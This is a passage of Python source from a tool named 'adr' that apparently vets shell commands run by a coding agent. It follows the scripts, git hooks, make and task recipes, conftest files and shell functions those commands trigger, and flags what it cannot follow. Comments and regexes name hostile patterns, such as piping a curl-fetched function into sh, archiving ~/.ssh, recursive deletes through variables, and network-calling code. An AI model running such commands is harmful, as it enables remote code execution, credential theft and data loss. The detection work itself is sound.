        for path in run.paths:
            if not os.path.lexists(path) and self.recall(path) is None and path not in self.line_writes:
                continue  # (looked for upward: only the one that exists is read)
            for text, origin, agent in self.content(path, run, note, line_written=True):
                if run.language == "just":
                    text = self.just_imported(text, path, run, note)
                    recipes, tripped = just_recipes(text, run.names, dry=run.mode == "dry")
                else:
                    recipes, tripped = taskfile_tasks(text, run.names, dry=run.mode == "dry", cli_args=" ".join(run.args),
                                                      included=self.task_included(text, path, run, note))
                if tripped:
                    self.bound(f"more than {R.MAX_MAKE_TARGETS} {run.language} targets to follow", path, note or run.how)
                if recipes:
                    labels = [label for label, _ in recipes]
                    what = ", ".join(labels[:4]) + (f" and {len(labels) - 4} more" if len(labels) > 4 else "")
                    self.judge(self.exported(run) + "\n".join(r for _, r in recipes), run.cwd, depth,
                               _note(note, f"runs {what} of {path} ({origin}) via `{run.how}`"), agent=agent)
            return

    def just_imported(self, text: str, path: str, run: R.Run, note: str, depth: int = 0) -> str:
        """The justfile's text with the files it imports appended (relative to it; nested, bounded)."""
        from adr.shell.taskrunners import just_imports
        for name in just_imports(text):
            inc = R.resolve(name, posixpath.dirname(path), self.home)
            if not inc or depth >= 3:
                continue
            for more, _, _ in self.content(inc, run, note):
                text += "\n" + self.just_imported(more, inc, run, note, depth + 1)
        return text

    def task_included(self, text: str, path: str, run: R.Run, note: str) -> "dict[str, str]":
        """The text of each Taskfile a Taskfile includes (a folder means its Taskfile.yml)."""
        from adr.shell.taskrunners import TASKFILES, taskfile_includes
        out: dict[str, str] = {}
        for ns, name in taskfile_includes(text):
            inc = R.resolve(name, posixpath.dirname(path), self.home)
            if inc and os.path.isdir(inc):
                inc = next((posixpath.join(inc, n) for n in TASKFILES if os.path.exists(posixpath.join(inc, n))), "")
            for more, _, _ in (self.content(inc, run, note) if inc else []):
                out[ns] = more
        return out

    def make_included(self, text: str, run: R.Run, note: str) -> str:
        """The Makefile with each literal `include` replaced by the file it names (one level)."""
        for line, name, optional in R.make_includes(text):
            path = R.resolve(name, run.cwd, self.home)
            if not path or ("file", path) in self.seen:
                continue
            got = self.content(path, run, note)
            if got:
                text = text.replace(line, "\n".join(t for t, _, _ in got), 1)
        return text

    def run_setup(self, run: R.Run, line: str, depth: int, note: str) -> None:
        path = run.paths[0]
        for text, origin, agent in self.content(path, run, note):
            self.judge(R.as_command("python", text), run.cwd, depth,
                       _note(note, f"runs {path} ({origin}) via `{run.how}`"), agent=agent)

    def run_pytest(self, run: R.Run, line: str, depth: int, note: str) -> None:
        files: list[str] = []
        root = run.cwd
        # conftest.py from the root up to the project's top (rootdir / confcutdir), and below each path
        d = root
        for _ in range(32):
            files.append(posixpath.join(d, "conftest.py"))
            if any(os.path.exists(posixpath.join(d, m)) for m in (".git", "pytest.ini", "pyproject.toml", "tox.ini",
                                                                  "setup.cfg")):
                break
            parent = posixpath.dirname(d)
            if parent == d:
                break
            d = parent
        walked = 0
        for p in run.paths:
            if os.path.isfile(p):
                files += [posixpath.join(posixpath.dirname(p), "conftest.py"), p]
                continue
            for dirpath, dirnames, filenames in os.walk(p):
                walked += 1
                if walked > self.limits.walk_dirs:
                    self.bound(f"more than {self.limits.walk_dirs} directories to search for conftest.py", p,
                               note or run.how)
                    break
                dirnames[:] = sorted(n for n in dirnames if not n.startswith(".") and n not in _PYTEST_SKIP
                                     and not n.endswith(".egg-info") and not n.endswith(".egg"))
                if "conftest.py" in filenames:
                    files.append(posixpath.join(dirpath, "conftest.py"))
            if self.memory is not None:  # test code this session wrote there runs too
                for w in self.memory.under(p):
                    base = posixpath.basename(w.path)
                    if base == "conftest.py" or (base.endswith(".py") and (base.startswith("test_")
                                                                          or base.endswith("_test.py"))):
                        files.append(w.path)
        for plugin in run.names:
            mod = plugin.replace(".", "/")
            files += [posixpath.join(root, mod + ".py"), posixpath.join(root, mod, "__init__.py")]
        for path in dict.fromkeys(files):
            if not os.path.exists(path) and self.recall(path) is None:
                continue
            for text, origin, agent in self.content(path, run, note):
                self.judge(R.as_command("python", text), root, depth,
                           _note(note, f"runs {path} ({origin}) via `{run.how}`"), agent=agent)

    def run_git(self, run: R.Run, line: str, depth: int, note: str) -> None:
        repo = _git_dirs(run.cwd)
        if repo is None:
            return
        top, gitdir, common = repo
        # the user's global config first, then the repository's (later keys win, as in git)
        xdg = os.environ.get("XDG_CONFIG_HOME") or posixpath.join(self.home, ".config")
        texts = []
        for path in (posixpath.join(xdg, "git/config"), posixpath.join(self.home, ".gitconfig"),
                     posixpath.join(common, "config")):
            got = self.read(path, note, run.how) if os.path.exists(path) else None
            if got is not None and got.status in ("ok", "too-large"):
                texts.append(got.text)
                # `[include] path = …`: read where it is included (relative to the including file)
                for inc in R.git_config(got.text).includes[:4]:
                    ipath = R.resolve(inc, posixpath.dirname(path), self.home)
                    more = self.read(ipath, note, run.how) if ipath and os.path.isfile(ipath) else None
                    if more is not None and more.status in ("ok", "too-large"):
                        texts.append(more.text)
        cfg = R.git_config("\n".join(texts), run.args)
        hooks = R.resolve(cfg.hooks_path, top, self.home) if cfg.hooks_path else posixpath.join(common, "hooks")
        for label, text in R.git_program_runs(cfg, run.mode):
            self.judge(text, top, depth, _note(note, f"runs {label} from git's configuration via `{run.how}`"))
        if not hooks:
            return
        dirs = [(hooks, True)]
        if hooks.rstrip("/").endswith("/.husky/_"):  # husky: its stubs in .husky/_ run .husky/NAME with sh
            dirs.append((posixpath.dirname(hooks.rstrip("/")), False))
        framework = False
        for name in run.names:
            for d, need_exec in dirs:
                path = posixpath.join(d, name)
                if not os.path.lexists(path) and self.recall(path) is None:
                    continue
                for text, origin, agent in self.content(path, run, note, need_exec=need_exec):
                    framework = framework or "pre-commit" in text and ("pre_commit" in text or "INSTALL_PYTHON" in text)
                    lang = R.language_of_script(path, text, "" if need_exec else "shell")
                    if lang != "other":
                        self.judge(R.as_command(lang, text), top, depth,
                                   _note(note, f"runs the git hook {path} ({origin}) via `{run.how}`"), agent=agent)
        if framework:  # the pre-commit framework's hook runs the repository's local hooks
            self.run_precommit(R.Run(R.PRECOMMIT, run.how, top), line, depth, note)

    def run_precommit(self, run: R.Run, line: str, depth: int, note: str) -> None:
        """.pre-commit-config.yaml: a `repo: local` hook's entry runs in the repository."""
        repo = _git_dirs(run.cwd)
        top = repo[0] if repo is not None else run.cwd
        path = posixpath.join(top, ".pre-commit-config.yaml")
        if not os.path.exists(path) and self.recall(path) is None:
            return
        for text, origin, agent in self.content(path, run, note):
            for hook_id, command in R.precommit_local_hooks(text):
                self.judge(command, top, depth,
                           _note(note, f"runs the local pre-commit hook {hook_id!r} of {path} ({origin}) "
                                       f"via `{run.how}`"), agent=agent)

    def variables(self, parsed: Any, text: str, cwd: str, depth: int, note: str) -> None:
        """`export T=~` in one call, `rm -rf "$T"` in the next: a persistent shell still holds T, so the
        line is judged once more with the variables it uses (and does not set itself) assigned first."""
        own = {n for n, _ in parsed.assigned} | {n for n, _ in parsed.computed}
        used = [n for n in self.vars if n not in own and ("$" + n in text or "${" + n in text)
                and re.search(r"\$\{?" + re.escape(n) + r"(?![A-Za-z0-9_])", text)] if depth == 0 else []
        # `export LEFTHOOK_CONFIG=x.yml` (COMPOSER, BUNDLE_GEMFILE, ANSIBLE_ROLES_PATH …) in one call, the
        # program that reads the file it names in the next: it finds it in its environment (exported:
        # an assignment the session did not export is taken as exported — stricter, never quieter)
        # (a script the line runs inherits them too: `bash ci.sh`, a git hook that starts lefthook; `yarn
        # lefthook run` names the program as an argument)
        # … and one a program reads by itself (`export GIT_SSH_COMMAND='sh x.sh'`, then `git fetch`)
        handed = [n for n in self.vars if n not in own and n not in used and (readers := env_readers(n))
                  and any(c.program in readers or any(a in readers for a in c.args[:4]) for c in parsed.commands[:64])]
        if not used and not handed:
            return
        prefix = "\n".join([f"{n}={self.vars[n][0]}" if n in self.computed else R.assignment_text(n, self.vars[n][0])
                             for n in used] + [f"export {n}={self.vars[n][0]}" if n in self.computed
                                               else "export " + R.assignment_text(n, self.vars[n][0]) for n in handed])
        how = "; ".join(f"${n} as set by {self.vars[n][1]}" for n in used + handed)
        self.judge(prefix + "\n" + text, cwd, depth, _note(note, how))

    def git_remotes(self, parsed: Any, text: str, cwd: str, depth: int, note: str) -> None:
        """`git push NAME` (or a bare `git push`: origin) after an earlier call pointed NAME at a URL
        (`git remote add|set-url`, `git config remote.NAME.pushurl`): judged with that call's line
        first, as the two on one line are — the push goes to that URL."""
        for c in parsed.commands[:64]:
            if c.program != "git" or c.via or "push" not in c.args:
                continue
            rest = list(c.args[c.args.index("push") + 1:])
            pos = [a for a in rest if not a.startswith("-")]
            name = pos[0] if pos else "origin"
            got = self.defs.get(R.GIT_REMOTE + name)
            if got is None or R.GIT_REMOTE + name in self.expanding:
                continue
            d, origin = got
            self.expanding.append(R.GIT_REMOTE + name)
            try:
                self.judge(d.body + "\n" + text, cwd, depth, _note(note, f"the remote {name} as set by {origin}: `{d.body[:120]}`"))
            finally:
                self.expanding.pop()
            return

    def functions(self, runs: list[R.Run], line: str, cwd: str, depth: int, note: str) -> None:
        """Every call of a known function or alias on the line is replaced by what it runs, all at
        once, so a pipeline around the calls (`d URL | run sh`) is judged whole. A definition is not
        expanded inside its own expansion (an alias that names itself, a recursive function)."""
        text, used, how = line, [], []
        for run in runs:
            name = run.names[0]
            got = self.defs.get(name)
            if got is None or name in self.expanding:
                continue
            d, origin = got
            called = R.call_text(d, run.args)
            body = called if d.kind == "alias" else "{ " + called + "\n}"
            at = _call_site(text, run.raw) if run.raw else None
            if at is not None:
                text = text[:at] + body + text[at + len(run.raw):]
            else:
                text = text + "\n" + body
            used.append(name)
            how.append(f"calls the {d.kind} {name} ({origin}) via `{run.how}`")
        if not used:
            return
        self.expanding.extend(used)
        try:
            self.judge(text, cwd, depth, _note(note, "; ".join(dict.fromkeys(how))))
        finally:
            del self.expanding[-len(used):]

    # ---- findings -------------------------------------------------------------------------------------

    def add(self, f: Finding) -> None:
        if f.action is not RuleAction.LOG:
            self.raised += 1
        prev = self.found.get(f.rule_id)
        if prev is None:
            if len(self.found) < 50:
                self.found[f.rule_id] = f
            return
        if f.decision().rank > prev.decision().rank:
            self.found[f.rule_id] = f
        elif len(prev.evidence) < 3:
            extra = tuple(e for e in f.evidence if e not in prev.evidence)[: 3 - len(prev.evidence)]
            self.found[f.rule_id] = replace(prev, evidence=prev.evidence + extra)

    def bound(self, detail: str, subject: str, note: str) -> None:
        self.add(Finding(
            rule_id="crosscall.bound", title="What this command runs could not be followed completely",
            severity=Severity.HIGH, action=RuleAction.ASK,
            evidence=(Evidence(subject=subject[:500], field="crosscall", note=_note(note, detail)),),
            description="adr follows the scripts, package scripts, make recipes, hooks and functions a command "
                        "runs, within bounds; what lies beyond a bound was not judged, so a human decides.",
            tags=("crosscall",), source="crosscall"))


def _call_site(text: str, call: str) -> "int | None":
    """Where `call` (a function or alias call as written) stands as a command in `text`: at a statement's
    start, never where it is defined (`f() {`, `function f`) — in `f(){ curl …; }; f | sh` the first "f"
    is the definition, and the call is the pipeline's stage."""
    for k, m in enumerate(re.finditer(re.escape(call), text)):
        if k >= 4096:
            break  # (a call hidden behind thousands of look-alikes: judged after the line, as before)
        i, j = m.start(), m.end()
        if not statement_start(text, i):
            continue
        before = text[max(0, i - 64):i].rstrip(" \t")
        if j < len(text) and text[j] not in " \t\n;&|)}`<>":
            continue
        if re.match(r"[ \t]*\(\s*\)", text[j:]) or re.search(r"(?:^|\s)function$", before):
            continue  # the definition
        return i
    return None


def _folder_files(folder: str) -> list[str]:
    """The regular files right in a folder (`run-parts DIR`), sorted: at most MAX_FOLDER_SOURCES + 1."""
    try:
        with os.scandir(folder) as it:
            names = sorted(e.name for e in itertools.islice(it, 4096) if e.is_file(follow_symlinks=False))
    except OSError:
        return []
    return [posixpath.join(folder, n) for n in names[:R.MAX_FOLDER_SOURCES + 1]]


def _folder_entry(folder: str, language: str) -> str:
    """The file an interpreter runs when given a folder ("" when it runs none adr can read)."""
    if language == "app":  # an app bundle: the executable its Info.plist names (by default the bundle's name)
        import plistlib
        exe = posixpath.basename(folder).removesuffix(".app")
        try:
            with open(posixpath.join(folder, "Contents", "Info.plist"), "rb") as f:
                info = plistlib.loads(f.read(256 * 1024))
            named = info.get("CFBundleExecutable") if isinstance(info, dict) else None
            exe = named if isinstance(named, str) and named and "/" not in named else exe
        except (OSError, ValueError, plistlib.InvalidFileException):
            pass
        main = posixpath.join(folder, "Contents", "MacOS", exe)
        try:
            with open(main, "rb") as f:
                head = f.read(4)
        except OSError:
            return ""
        # a compiled program (Mach-O, universal) is not read as text
        return "" if head in (b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"\xfe\xed\xfa\xce",
                              b"\xfe\xed\xfa\xcf") else main
    if language == "python":
        main = posixpath.join(folder, "__main__.py")
        return main if os.path.isfile(main) else ""
    if language == "node":
        import json
        try:
            with open(posixpath.join(folder, "package.json"), encoding="utf-8") as f:
                data = json.loads(f.read(256 * 1024))
            main = data.get("main") if isinstance(data, dict) else None
        except (OSError, ValueError):
            main = None
        for cand in ([main] if isinstance(main, str) and main else []) + ["index.js", "index.mjs", "index.cjs"]:
            p = posixpath.normpath(posixpath.join(folder, cand))
            if os.path.isfile(p):
                return p
    return ""


# a line that sends what it reads: a network sender, or code that calls out (`python3 -c "…requests.post…"`)
_SCRIPT_SHELL = lazyre.compile(r"(?m)^[ \t]*script-shell[ \t]*=[ \t]*(\S[^\n]*)$")
_LINE_SENDERS = (STDIN_SENDERS | UPLOADERS | ARG_SENDERS) - SOME_FORMS - {"dig", "openssl", "ssh"}
_NET_CODE = lazyre.compile(r"://|\b(?:socket|requests|urllib|urlopen|httpx|fetch|http\.client|net\.connect|Net::HTTP|"
                           r"LWP|IO::Socket|XMLHttpRequest|WebSocket|smtplib|ftplib)\b")
_CAT_ONE = lazyre.compile(r"cat (~?[^\s|;&<>(){}$`]+)")


# programs whose operands are files they read and print (or encode, pack, filter): a remembered copy
# among them, however bare its name, is what they hand on
_OPERAND_READERS = FILE_READERS | frozenset({
    "base64", "gbase64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "rev", "tac", "sort", "uniq", "cut",
    "tr", "fold", "nl", "paste", "gzip", "bzip2", "xz", "zstd", "lz4", "tar", "gtar", "bsdtar", "zip", "7z", "7za",
    "openssl", "gpg", "gpg2", "age", "jq", "yq", "sed", "awk", "gawk", "grep", "zcat"})


def _made_from(w: Any) -> "str | None":
    """What a remembered file holds, as a word a reader can be given in its place: the file it was
    copied from (`cat SRC`), or the producer as a process substitution (`<(tar c ~/.ssh)`)."""
    if w is None or not w.producer:
        return None
    m = _CAT_ONE.fullmatch(w.producer.strip())
    if m:
        return m.group(1)
    return f"<({w.producer[:4096]})"


# programs that take a list of names from a file they are given (`tar -T F`, `rsync --files-from=F`,
# `zip -@ < F`, `cpio -o < F`) or read lines into variables
_LIST_TAKERS = frozenset({"tar", "gtar", "bsdtar", "rsync", "zip", "cpio", "7z", "7za", "read", "mapfile", "readarray"})
_LIST_TEXT = lazyre.compile(r"[^\x00-\x08\x0b-\x1f\x7f]{1,4096}")


def _reads_names(c: Any, nxt: Any) -> bool:
    """Does this command read a file's lines as names (what another program then opens)? xargs or
    parallel reading it, a `$(cat F)` word, a loop body handed its lines, a list-taking program, or
    `cat F | xargs …` / `cat F | while read …`."""
    if "xargs" in c.wrappers or "parallel" in c.wrappers or c.program in _LIST_TAKERS:
        return True
    if c.via.startswith(("$(", "`")):
        return True
    if any(r.op == "<" for r in c.redirects) and any("$" in a for a in c.args):
        return True  # `while read f; do cat "$f"; done < F` (the loop's redirect reaches its body)
    return nxt is not None and nxt.piped and (
        "xargs" in nxt.wrappers or "parallel" in nxt.wrappers or nxt.program in ("read", "mapfile", "readarray"))


def _names_made(w: Any, cwd: str, session: str) -> "tuple[str, str, str] | None":
    """(the remembered file as a process substitution, its producer alone, how it was made): what an
    earlier call printed into it, from the directory it ran in, or the short text an agent wrote."""
    if w is None:
        return None
    if w.producer and len(w.producer) <= 4096:
        where = w.producer_cwd or cwd
        alone = w.producer if where == cwd else f"cd {_arg_word(where)} && {w.producer}"
        return f"<({alone})", alone, f"{w.origin(session)} by `{w.producer[:120]}`"
    text = w.content
    if not w.producer and text and len(text) <= 4096 and _LIST_TEXT.fullmatch(text):
        lines = [ln for ln in text.splitlines() if ln.strip()][:64]
        if lines:
            alone = "printf '%s\\n' " + " ".join(_arg_word(ln) for ln in lines)
            return f"<({alone})", alone, w.origin(session)
    return None


def _finding_key(f: Finding) -> tuple[str, tuple[str, ...]]:
    return f.rule_id, tuple(e.subject for e in f.evidence)


def _link_target(path: str) -> "str | None":
    """A symlink on disk (made outside adr's sight, or in a call it cannot recall): where it points."""
    try:
        if not os.path.islink(path):
            return None
        real = os.path.realpath(path)
    except (OSError, ValueError):
        return None
    return real if real != path else None


_ENV_NAME_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]{0,63}")
# the rule on a delete rooted at a variable the line does not set, and its issue's naming of it
UNSET_ROOTED_RULE = "destruct.delete-rooted-at-unset-variable"
_VAR_NAMES = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")


# runs whose tool reads its program from a file it finds (downloaded files among them: see downloaded_program)
_PROGRAM_FILE_KINDS = frozenset({R.MAKE, R.TASKS, R.PACKAGE, R.SETUP, R.PRECOMMIT})


def _arg_word(a: str) -> str:
    """An argument as shell text that gives exactly it back (`~/x` left to expand: it was expanded
    on the calling line already, and the rules read `~` as the home either way)."""
    return a if a == "~" or (a.startswith("~/") and re.fullmatch(r"[\w./~@%+=:,-]+", a)) else shlex.quote(a)


def _unreadable(path: str, status: str, how: str, note: str) -> Finding:
    why = {"special": "a /proc, /sys or /dev path", "not-regular": "not a regular file (a FIFO, socket or device)",
           "unreadable": "adr cannot read it"}.get(status, status)
    return Finding(
        rule_id="crosscall.unreadable", title="Runs a file adr cannot read",
        severity=Severity.MEDIUM, action=RuleAction.ASK,
        evidence=(Evidence(subject=path[:500], field="crosscall", note=_note(note, f"{why}; run by `{how}`")),),
        description="The command runs a file whose content adr could not judge.", tags=("crosscall",),
        source="crosscall")


def _decoded_run(path: str, writer: str, how: str, note: str) -> Finding:
    return Finding(
        rule_id="crosscall.decoded-run", title="Runs a file made by decoding data adr cannot read",
        severity=Severity.HIGH, action=RuleAction.ASK,
        evidence=(Evidence(subject=path[:500], field="crosscall",
                           note=_note(note, f"written by {writer}; its content is not known; run by `{how}`")),),
        description="The command runs a file that a decoder, decompressor or decryptor made from other data: "
                    "what runs was never shown as text.", tags=("crosscall", "obfuscated-exec"), source="crosscall")


def _annotate(f: Finding, note: str) -> Finding:
    if not note:
        return f
    return replace(f, evidence=tuple(replace(e, note=_note(note, e.note)) for e in f.evidence) or (
        Evidence(subject="", note=note),))


def _note(outer: str, inner: str) -> str:
    if outer and inner:
        return f"{outer}; {inner}"
    return outer or inner


def _clock(at: float) -> str:
    return time.strftime("%H:%M:%S", time.localtime(at)) if at else "?"


def _git_dirs(cwd: str) -> tuple[str, str, str] | None:
    """(work tree top, git dir, common dir) of the repository around cwd, or None."""
    if not cwd.startswith("/"):
        return None
    d = cwd
    for _ in range(64):
        dot = posixpath.join(d, ".git")
        if os.path.isdir(dot):
            gitdir = dot
            break
        if os.path.isfile(dot):
            got = read_file(dot, 4096)
            line = got.text.strip() if got.status == "ok" else ""
            if not line.startswith("gitdir:"):
                return None
            gitdir = R.resolve(line[7:].strip(), d)
            break
        parent = posixpath.dirname(d)
        if parent == d:
            return None
        d = parent
    else:
        return None
    common = gitdir
    got = read_file(posixpath.join(gitdir, "commondir"), 4096)
    if got.status == "ok" and got.text.strip():
        common = R.resolve(got.text.strip(), gitdir) or gitdir
    return d, gitdir, common
